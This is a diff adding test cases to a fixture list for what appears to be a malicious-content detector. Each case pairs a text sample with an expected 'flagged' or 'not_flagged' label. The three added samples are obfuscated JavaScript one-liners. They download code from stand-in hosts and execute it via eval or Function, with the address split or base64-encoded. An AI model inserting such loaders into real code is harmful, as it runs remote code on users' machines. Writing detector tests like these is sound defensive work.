@@ -114,6 +114,16 @@ RAW: list[tuple[str, str, str, str]] = [
     ("g-ok-signature-zh-1",
      "王丽 | 财务部 | 电话 010-5555-0123 | 如需退款请发邮件",
      "not_flagged", "benign-signature"),
+    # the same, with the address put together so no pattern sees it (read by the interpreter)
+    ("g-js-xhr-hidden-1",
+     "var h='ht'+'tps://pay'+'load-cdn.invalid/z';var x=new XMLHttpRequest();x.open('GET',h,false);x.send();eval(x.responseText)",
+     "flagged", "js-xhr-eval-hidden"),
+    ("g-js-xhr-onload-hidden-1",
+     "var x=new XMLHttpRequest();x.onload=function(){eval(this.responseText)};x.open('GET',atob('aHR0cHM6Ly9ldmlsLmludmFsaWQvYQ=='));x.send()",
+     "flagged", "js-xhr-eval-hidden"),
+    ("g-js-function-fetch-hidden-1",
+     "Function(await (await fetch(['//','cdn.sync-tools.test','/r.js'].join(''))).text())()",
+     "flagged", "js-function-of-fetch-hidden"),
 ]  # fmt: skip
 
 
